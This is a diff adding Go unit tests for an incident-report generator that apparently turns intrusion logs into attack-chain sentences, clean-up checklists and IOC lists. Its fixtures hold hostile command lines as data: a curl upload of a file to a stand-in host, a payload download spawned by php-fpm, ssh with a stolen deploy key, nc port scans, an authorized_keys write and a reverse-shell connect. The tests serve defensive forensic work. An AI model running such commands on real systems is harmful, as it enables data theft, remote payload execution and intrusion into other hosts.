@@ -1,0 +1,385 @@
+package report
+
+import (
+	"strings"
+	"testing"
+	"time"
+)
+
+// claimsDoc is one told chain whose clean-up list must word each claim as
+// what the records show: an unlink record is a deletion, an rm command
+// line only names one; a key copied, a key generated and a key of the
+// host's own are three different things to do; the host's own files the
+// intruder wrote into are to clean, not indicators to hunt elsewhere.
+func claimsDoc() *Document {
+	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
+	n := 0
+	proc := func(pid int, args ...string) *DocProcess {
+		return &DocProcess{PID: pid, Exe: "/usr/bin/" + args[0], Args: args, User: "www-data", UID: 33,
+			Ancestors: []DocAncestor{{PID: 900, Exe: "/usr/sbin/php-fpm8.2"}}}
+	}
+	f := func(kind, file string, p *DocProcess) DocFinding {
+		n++
+		return DocFinding{ID: FindingID(n - 1), Title: "T", Severity: "high", Stage: 8, StageID: "exfiltration-impact",
+			Time: t0.Add(time.Duration(n) * time.Second), Kind: kind, File: file, Process: p, ChainID: "C01", Outcome: OutcomeSuccess}
+	}
+	fs := []DocFinding{
+		f("exec", "", proc(10, "cp", "/srv/backup/deploy_key", "/tmp/.k")),
+		f("exec", "", proc(11, "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", "/var/tmp/.g")),
+		f("exec", "", proc(12, "ssh", "-i", "/tmp/.k", "deploy@10.0.0.5", "id")),
+		f("exec", "", proc(13, "ssh", "-i", "/var/tmp/.g", "op@203.0.113.9")),
+		f("exec", "", proc(14, "ssh", "-i", "/home/app/.ssh/id_publish", "deploy@10.0.0.6")),
+		f("file-write", "/home/app/.ssh/authorized_keys", proc(15, "sh", "-i")),
+		f("file-write", "/var/www/html/x.php", proc(16, "php-fpm8.2")),
+		f("exec", "", proc(17, "rm", "-f", "/tmp/.k", "/var/www/html/x.php")),
+		f("unlink", "/var/www/html/x.php", proc(17, "rm", "-f", "/tmp/.k", "/var/www/html/x.php")),
+	}
+	ids := make([]string, len(fs))
+	for i := range fs {
+		ids[i] = fs[i].ID
+	}
+	return &Document{Findings: fs, Chains: []DocChain{{ID: "C01", Severity: "critical", Score: 400 + 10 + 9, FindingIDs: ids,
+		Stages: []DocStage{{Stage: 8, StageID: "exfiltration-impact", Name: "Exfiltration / impact", Observed: true, Confidence: "observed", FindingIDs: ids}}}}}
+}
+
+func TestCleanupClaimsSayWhatTheRecordsShow(t *testing.T) {
+	d := claimsDoc()
+	buildSummary(d)
+	detail := map[string]string{}
+	for _, c := range d.Summary.Cleanup {
+		detail[c.Kind+" "+c.What] += c.Detail
+	}
+	for _, tc := range []struct {
+		item      string
+		want, not []string
+	}{
+		// the unlink record shows the deletion
+		{"file /var/www/html/x.php", []string{"deleted later by rm[17]", "(F0009)"}, []string{"inferred"}},
+		// only rm's command line names /tmp/.k: no record of the unlink
+		{"file /tmp/.k", []string{"deleted later by rm[17]", "inferred from its command line"}, nil},
+		{"key /tmp/.k", []string{"a copy of /srv/backup/deploy_key", "rotate /srv/backup/deploy_key"}, []string{"rotate the key it is a copy of"}},
+		{"key /var/tmp/.g", []string{"made by `ssh-keygen", "remove it"}, []string{"copy"}},
+		{"key /home/app/.ssh/id_publish", []string{"rotate it"}, []string{"copy"}},
+		{"key /home/app/.ssh/authorized_keys", []string{"written by sh[15]", "remove the keys the intruder added"}, nil},
+	} {
+		got, ok := detail[tc.item]
+		if !ok {
+			t.Errorf("no clean-up item %q in %v", tc.item, detail)
+			continue
+		}
+		wantPhrases(t, tc.item, got, tc.want, tc.not)
+	}
+	groups := map[string]string{}
+	for _, g := range cleanGroups(d.Summary.Cleanup) {
+		groups[g.Kind] = strings.Join(g.What, ", ")
+	}
+	if g := groups[CleanFile]; !strings.Contains(g, "/var/www/html/x.php (deleted since)") || !strings.Contains(g, "/tmp/.k (deleted since, inferred)") {
+		t.Errorf("files line %q: want the recorded deletion plain and the command-line one marked inferred", g)
+	}
+	// Key IOCs: what the intruder made is worth hunting elsewhere; the
+	// host's own key and its authorized_keys are not indicators
+	iocs := map[string]string{}
+	for _, k := range d.Summary.KeyIOCs {
+		iocs[k.Value] = k.Note
+	}
+	for v, want := range map[string]bool{"/tmp/.k": true, "/var/tmp/.g": true, "/var/www/html/x.php": true,
+		"/home/app/.ssh/id_publish": false, "/home/app/.ssh/authorized_keys": false} {
+		if _, ok := iocs[v]; ok != want {
+			t.Errorf("key IOC %s listed: %v, want %v (%v)", v, ok, want, iocs)
+		}
+	}
+	if n := iocs["/var/www/html/x.php"]; strings.Contains(n, "dropped") || !strings.HasPrefix(n, "written in this intrusion by php-fpm8.2[16]") {
+		t.Errorf("x.php: %q: a write does not show the file was new", n)
+	}
+}
+
+// One line per kind in the checklist, whichever chains the items come from.
+func TestCleanGroupsOneLinePerKind(t *testing.T) {
+	cs := []DocCleanup{
+		{Kind: CleanFile, What: "/a", ChainID: "C01"}, {Kind: CleanChannel, What: "1.2.3.4:1", ChainID: "C01"},
+		{Kind: CleanPersistence, What: "/etc/cron.d/x", ChainID: "C02"}, {Kind: CleanChannel, What: "1.2.3.4:2", ChainID: "C02"},
+	}
+	seen := map[string]int{}
+	for _, g := range cleanGroups(cs) {
+		seen[g.Label]++
+	}
+	for l, n := range seen {
+		if n > 1 {
+			t.Errorf("%q %d times in %v", l, n, cleanGroups(cs))
+		}
+	}
+}
+
+// A stage whose requests are seen but whose role is inferred is not "not
+// seen": the sentence names the rule and lists the requests.
+func TestInferredStageWithRequestsIsNotUnseen(t *testing.T) {
+	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
+	for _, tc := range []struct {
+		name      string
+		requests  []DocRequest
+		want, not string
+	}{
+		{"requests seen", []DocRequest{{Time: t0, Client: "203.0.113.7", Method: "GET", URL: "/status.php", Status: 200}},
+			"Initial access (inferred as the way in: the first request is taken as the exploit request): requests GET /status.php", "not seen"},
+		{"nothing seen", nil, "Initial access (not seen, inferred: as the way in", ""},
+	} {
+		sg := DocStage{Stage: 1, StageID: "initial-access", Name: "Initial access", Observed: true, Confidence: "inferred",
+			Reason: "inferred as the way in: the first request is taken as the exploit request; 1 request(s) in the access log", Requests: tc.requests}
+		ch := &DocChain{ID: "C01", Stages: []DocStage{sg}}
+		got := sentence(ch, sg, map[string]*DocFinding{}, "").Text
+		if !strings.Contains(got, tc.want) || tc.not != "" && strings.Contains(got, tc.not) {
+			t.Errorf("%s: %q, want %q without %q", tc.name, got, tc.want, tc.not)
+		}
+	}
+}
+
+// A stage's sentence words each connect by what its record shows: a
+// reverse shell's connect is a channel, any other connect is a connect; a
+// non-blocking connect whose result the log does not hold is not
+// "connected"; a failed one is an attempt.
+func TestStageSentencePeersSayTheOutcome(t *testing.T) {
+	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
+	n := 0
+	conn := func(stage int, peer, rule, reason, outcome, why string) DocFinding {
+		n++
+		title := "Outbound Connection"
+		if strings.HasPrefix(reason, "a shell acting") {
+			title = "Reverse Shell Connection"
+		}
+		return DocFinding{ID: FindingID(n - 1), RuleID: rule, Title: title, Severity: "high", Stage: stage, Time: t0.Add(time.Duration(n) * time.Second),
+			Kind: "connect", Peer: peer, Reason: reason, Outcome: outcome, OutcomeReason: why, ChainID: "C01",
+			Process: &DocProcess{PID: 10 + n, Exe: "/usr/bin/curl", Args: []string{"curl"}}}
+	}
+	for _, tc := range []struct {
+		name      string
+		stage     int
+		fs        []DocFinding
+		want, not []string
+	}{
+		{"reverse shell and a plain connect", 7, []DocFinding{
+			conn(7, "203.0.113.7:4444", "web-reverse-shell-connect", "a shell acting for the web server connects out: a reverse shell", OutcomeSuccess, ""),
+			conn(7, "203.0.113.8:8000", "web-outbound-connect", "outbound connection from a process acting for the web server", OutcomeSuccess, ""),
+			// the reverse-shell rule placing a raw upload: the match is an upload
+			conn(7, "203.0.113.9:9002", "web-reverse-shell-connect", "connection of a command that sends data out; re-entry … reverse shell", OutcomeSuccess, ""),
+		}, []string{"channel to 203.0.113.7:4444", "connected to 203.0.113.8:8000, 203.0.113.9:9002"}, []string{"channel to 203.0.113.7:4444, 203.0.113.8:8000"}},
+		{"non-blocking", 8, []DocFinding{
+			conn(8, "203.0.113.8:8000", "web-outbound-connect", "connection of a command that sends data out", OutcomeUnknown, "EINPROGRESS: a non-blocking connect whose result the log does not record"),
+		}, []string{"connect to 203.0.113.8:8000 (non-blocking: the log does not record whether it connected)"}, []string{"connected to"}},
+		{"one of two connects of a peer took effect", 8, []DocFinding{
+			conn(8, "203.0.113.8:8000", "web-outbound-connect", "", OutcomeUnknown, "EINPROGRESS"),
+			conn(8, "203.0.113.8:8000", "web-outbound-connect", "", OutcomeSuccess, ""),
+		}, []string{"connected to 203.0.113.8:8000"}, []string{"non-blocking"}},
+		{"refused", 8, []DocFinding{
+			conn(8, "203.0.113.9:9001", "web-outbound-connect", "", OutcomeFailure, "ECONNREFUSED (connection refused)"),
+		}, []string{"tried to connect to 203.0.113.9:9001, which failed: ECONNREFUSED (connection refused)"}, []string{"connected to"}},
+	} {
+		byID := map[string]*DocFinding{}
+		var ids []string
+		for i := range tc.fs {
+			byID[tc.fs[i].ID] = &tc.fs[i]
+			ids = append(ids, tc.fs[i].ID)
+		}
+		sg := DocStage{Stage: tc.stage, Name: "Stage", Observed: true, Confidence: "observed", FindingIDs: ids}
+		got := sentence(&DocChain{ID: "C01", FindingIDs: ids, Stages: []DocStage{sg}}, sg, byID, "").Text
+		wantPhrases(t, tc.name, got, tc.want, tc.not)
+	}
+}
+
+// The clean-up's channels say what the records show: a connect whose
+// result is not recorded did not surely open a connection, and a URL in a
+// command line names a peer, it does not show traffic.
+func TestCleanupChannelsSayWhatTheRecordsShow(t *testing.T) {
+	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
+	p := &DocProcess{PID: 30, Exe: "/usr/bin/curl", Args: []string{"curl", "-T", "/tmp/a", "http://203.0.113.8:8000/u"}}
+	fs := []DocFinding{
+		{ID: "F0001", Title: "T", Severity: "high", Stage: 8, StageID: "exfiltration-impact", Time: t0, Kind: "exec", Process: p, ChainID: "C01", Outcome: OutcomeSuccess},
+		{ID: "F0002", Title: "T", Severity: "high", Stage: 7, StageID: "command-and-control", Time: t0, Kind: "connect", Peer: "203.0.113.7:4444",
+			Process: p, ChainID: "C01", Outcome: OutcomeUnknown, OutcomeReason: "EINPROGRESS"},
+	}
+	d := &Document{Findings: fs, Chains: []DocChain{{ID: "C01", Severity: "critical", Score: 400 + 20 + 2, FindingIDs: []string{"F0001", "F0002"},
+		Stages: []DocStage{{Stage: 7, StageID: "command-and-control", Name: "Command and control", Observed: true, Confidence: "observed", FindingIDs: []string{"F0002"}},
+			{Stage: 8, StageID: "exfiltration-impact", Name: "Exfiltration", Observed: true, Confidence: "observed", FindingIDs: []string{"F0001"}}}}}}
+	buildSummary(d)
+	got := map[string]string{}
+	for _, c := range d.Summary.Cleanup {
+		got[c.What] = c.Detail
+	}
+	for what, want := range map[string]string{
+		"203.0.113.7:4444": "connect by curl[30] at 10:00:00 UTC (non-blocking: the log does not record whether it connected)",
+		"203.0.113.8:8000": "named in the command line of `curl -T /tmp/a http://203.0.113.8:8000/u` by curl[30]",
+	} {
+		if !strings.Contains(got[what], want) {
+			t.Errorf("%s: %q, want %q", what, got[what], want)
+		}
+	}
+	for what, d := range got {
+		if strings.Contains(d, "talked to it") || strings.Contains(d, "connection opened") {
+			t.Errorf("%s: %q", what, d)
+		}
+	}
+}
+
+// A host the intruder moved on to (a lateral-movement connect) is a victim
+// to check, not attacker infrastructure to block, and no indicator to hunt.
+func TestLateralPeerIsAHostReached(t *testing.T) {
+	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
+	p := &DocProcess{PID: 40, Exe: "/usr/bin/ssh", Args: []string{"ssh", "deploy@10.0.0.5"}}
+	fs := []DocFinding{
+		{ID: "F0001", Title: "Outbound Connection", Severity: "medium", Stage: 6, StageID: "lateral-movement", Time: t0, Kind: "connect",
+			Peer: "10.0.0.5:22", Process: p, ChainID: "C01", Outcome: OutcomeSuccess},
+		{ID: "F0002", Title: "Reverse Shell Connection", Reason: "a reverse shell", Severity: "high", Stage: 7, StageID: "command-and-control", Time: t0, Kind: "connect",
+			Peer: "203.0.113.7:4444", Process: p, ChainID: "C01", Outcome: OutcomeSuccess},
+	}
+	d := &Document{Findings: fs, Chains: []DocChain{{ID: "C01", Severity: "critical", Score: 400 + 20 + 2, FindingIDs: []string{"F0001", "F0002"},
+		Stages: []DocStage{{Stage: 6, StageID: "lateral-movement", Name: "Lateral movement", Observed: true, Confidence: "observed", FindingIDs: []string{"F0001"}},
+			{Stage: 7, StageID: "command-and-control", Name: "Command and control", Observed: true, Confidence: "observed", FindingIDs: []string{"F0002"}}}}}}
+	buildSummary(d)
+	lines := map[string]string{}
+	for _, g := range cleanGroups(d.Summary.Cleanup) {
+		lines[g.Label] = strings.Join(g.What, ", ")
+	}
+	if lines["Peers to block:"] != "203.0.113.7:4444" || lines["Hosts reached:"] != "10.0.0.5:22" {
+		t.Errorf("checklist %v: want the reverse shell's peer to block and the ssh target as a host reached", lines)
+	}
+	for _, k := range d.Summary.KeyIOCs {
+		if k.Value == "10.0.0.5:22" {
+			t.Errorf("key IOC %+v: a host the intruder reached is the victim's", k)
+		}
+	}
+}
+
+// A lateral-movement stage words each command by what its match means: a
+// port scan looked for services, it did not move anywhere.
+func TestLateralSentenceScanIsNotMovement(t *testing.T) {
+	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
+	ex := func(id string, reason string, attack []string, args ...string) DocFinding {
+		return DocFinding{ID: id, Title: "T", Severity: "high", Stage: 6, StageID: "lateral-movement", Time: t0, Kind: "exec", Reason: reason,
+			Attack: attack, ChainID: "C01", Outcome: OutcomeSuccess, Process: &DocProcess{PID: 50, Exe: "/usr/bin/" + args[0], Args: args}}
+	}
+	for _, tc := range []struct {
+		name      string
+		fs        []DocFinding
+		want, not string
+	}{
+		{"scan only", []DocFinding{ex("F0001", "a port scan: discovery of internal services before lateral movement (T1046)", nil, "nc", "-z", "10.0.0.5", "20-25")},
+			"scanned with `nc -z 10.0.0.5 20-25`", "moved on"},
+		{"ssh and a scan", []DocFinding{
+			ex("F0001", "the command reaches another host or account", []string{"T1021.004"}, "ssh", "deploy@10.0.0.5"),
+			ex("F0002", "a port scan: discovery of internal services", []string{"T1046"}, "nc", "-z", "10.0.0.6", "22")},
+			"moved on with `ssh deploy@10.0.0.5` and scanned with `nc -z 10.0.0.6 22`", ""},
+	} {
+		byID := map[string]*DocFinding{}
+		var ids []string
+		for i := range tc.fs {
+			byID[tc.fs[i].ID] = &tc.fs[i]
+			ids = append(ids, tc.fs[i].ID)
+		}
+		sg := DocStage{Stage: 6, StageID: "lateral-movement", Name: "Lateral movement", Observed: true, Confidence: "observed", FindingIDs: ids}
+		got := sentence(&DocChain{ID: "C01", FindingIDs: ids, Stages: []DocStage{sg}}, sg, byID, "").Text
+		if !strings.Contains(got, tc.want) || tc.not != "" && strings.Contains(got, tc.not) {
+			t.Errorf("%s: %q, want %q without %q", tc.name, got, tc.want, tc.not)
+		}
+	}
+}
+
+// A re-entry through a backdoor is a conclusion of ours (the requests'
+// routes never ran such commands before the plant): its sentence is marked
+// inferred and names the rule.
+func TestReentrySentenceIsInferred(t *testing.T) {
+	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
+	ch := &DocChain{ID: "C01", Requests: []DocRequest{
+		{Time: t0, Method: "GET", URL: "/help.php", PID: 10, Args: []string{"/usr/bin/id"}, Backdoor: "/srv/www/.user.ini"},
+	}}
+	ss := reentrySentences(ch, map[string]*DocFinding{})
+	if len(ss) != 1 {
+		t.Fatalf("%d sentences", len(ss))
+	}
+	if !ss[0].Inferred || !strings.Contains(ss[0].Text, "Re-entry through the backdoor /srv/www/.user.ini (inferred: ") {
+		t.Errorf("%+v: want it marked inferred, with its rule", ss[0])
+	}
+}
+
+// A finding's "in this chain" link explains its own act: a file's link
+// (its write, its upload) does not explain a later deletion by another
+// process, which is in the chain through its own ancestry.
+func TestFindingLinkOfADeletion(t *testing.T) {
+	x := newLinkIndex([]string{
+		"entry point: the write of /var/www/html/uploads/probe.txt came from one of 2 requests in flight",
+		"ancestry: pid 1477 (dash) spawned by php-fpm8.2 pid 554",
+	})
+	rm := &DocProcess{PID: 1978, Exe: "/usr/bin/rm", Ancestors: []DocAncestor{{PID: 1479, Exe: "/usr/bin/bash"}, {PID: 1477, Exe: "/usr/bin/dash"}}}
+	for _, tc := range []struct {
+		f    DocFinding
+		want string
+	}{
+		{DocFinding{Kind: "unlink", File: "/var/www/html/uploads/probe.txt", Process: rm}, "through its ancestor dash[1477]: ancestry: pid 1477"},
+		{DocFinding{Kind: "rename", File: "/var/www/html/uploads/probe.txt", Process: &DocProcess{PID: 553, Exe: "/usr/sbin/php-fpm8.2"}}, "entry point: the write of"},
+	} {
+		if got := x.findingLink(&tc.f); !strings.HasPrefix(got, tc.want) {
+			t.Errorf("%s %s by %d: link %q, want %q", tc.f.Kind, tc.f.File, tc.f.Process.PID, got, tc.want)
+		}
+	}
+}
+
+// "through requests to X" is said of the commands those requests caused,
+// not of every command of the stage (a cron job's download beside them).
+func TestStageSentenceThroughOnlyWhatRequestsCaused(t *testing.T) {
+	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
+	ex := func(id string, pid int, anc []DocAncestor, args ...string) DocFinding {
+		return DocFinding{ID: id, Title: "T", Severity: "high", Stage: 4, StageID: "suspicious-process-spawn", Time: t0, Kind: "exec",
+			ChainID: "C01", Outcome: OutcomeSuccess, Process: &DocProcess{PID: pid, PPID: anc[0].PID, Exe: "/usr/bin/" + args[0], Args: args, Ancestors: anc}}
+	}
+	fs := []DocFinding{
+		ex("F0001", 30, []DocAncestor{{PID: 29, Exe: "/usr/sbin/cron"}}, "wget", "-O", "/var/www/data/rates.json", "http://h/rates.json"),
+		ex("F0002", 20, []DocAncestor{{PID: 9, Exe: "/usr/sbin/php-fpm8.2"}}, "sh", "-c", "curl -o /tmp/p.tgz http://h/p.tgz"),
+		ex("F0003", 21, []DocAncestor{{PID: 20, Exe: "/usr/bin/dash"}, {PID: 9, Exe: "/usr/sbin/php-fpm8.2"}}, "curl", "-o", "/tmp/p.tgz", "http://h/p.tgz"),
+	}
+	byID := map[string]*DocFinding{}
+	var ids []string
+	for i := range fs {
+		byID[fs[i].ID] = &fs[i]
+		ids = append(ids, fs[i].ID)
+	}
+	sg := DocStage{Stage: 4, StageID: "suspicious-process-spawn", Name: "Suspicious process spawn", Observed: true, Confidence: "observed", FindingIDs: ids}
+	ch := &DocChain{ID: "C01", FindingIDs: ids, Stages: []DocStage{sg},
+		Requests: []DocRequest{{Time: t0, Method: "POST", URL: "/admin/plugins.php", Status: 200, Client: "10.0.0.9", PID: 20}}}
+	want := "ran `curl -o /tmp/p.tgz http://h/p.tgz` through requests to /admin/plugins.php; ran `wget -O /var/www/data/rates.json http://h/rates.json`"
+	for _, slim := range []bool{false, true} {
+		if slim { // as the streamed JSON writer leaves them: no ancestors
+			for i := range fs {
+				fs[i] = slimFinding(fs[i])
+			}
+		}
+		got := sentence(ch, sg, byID, "").Text
+		if !strings.Contains(got, want) || strings.Contains(got, "rates.json`, ") {
+			t.Errorf("slim %v: %q: want the cron job's wget apart from what the request ran (%q)", slim, got, want)
+		}
+	}
+}
+
+// wantPhrases fails the test for each phrase of want that got lacks and
+// each of not that it holds.
+func wantPhrases(t *testing.T, what, got string, want, not []string) {
+	t.Helper()
+	for _, w := range want {
+		if !strings.Contains(got, w) {
+			t.Errorf("%s: %q lacks %q", what, got, w)
+		}
+	}
+	for _, w := range not {
+		if strings.Contains(got, w) {
+			t.Errorf("%s: %q says %q", what, got, w)
+		}
+	}
+}
+
+// The summary line's IOC count says which list it counts: the IOC table
+// (from the findings' records) and the key IOCs are different lists.
+func TestSummaryLineCountsSayWhichIOCs(t *testing.T) {
+	d := &Document{IOCs: []DocIOC{{Type: IOCFile, Value: "/a"}},
+		Summary: &DocSummary{KeyIOCs: []DocKeyIOC{{Type: IOCAddress, Value: "203.0.113.7"}, {Type: IOCURL, Value: "/x.php"}}}}
+	got := (&textRenderer{d: d}).summary()
+	if want := "1 IOC from the findings' records, 2 key IOCs"; !strings.Contains(got, want) {
+		t.Errorf("summary %q lacks %q", got, want)
+	}
+}
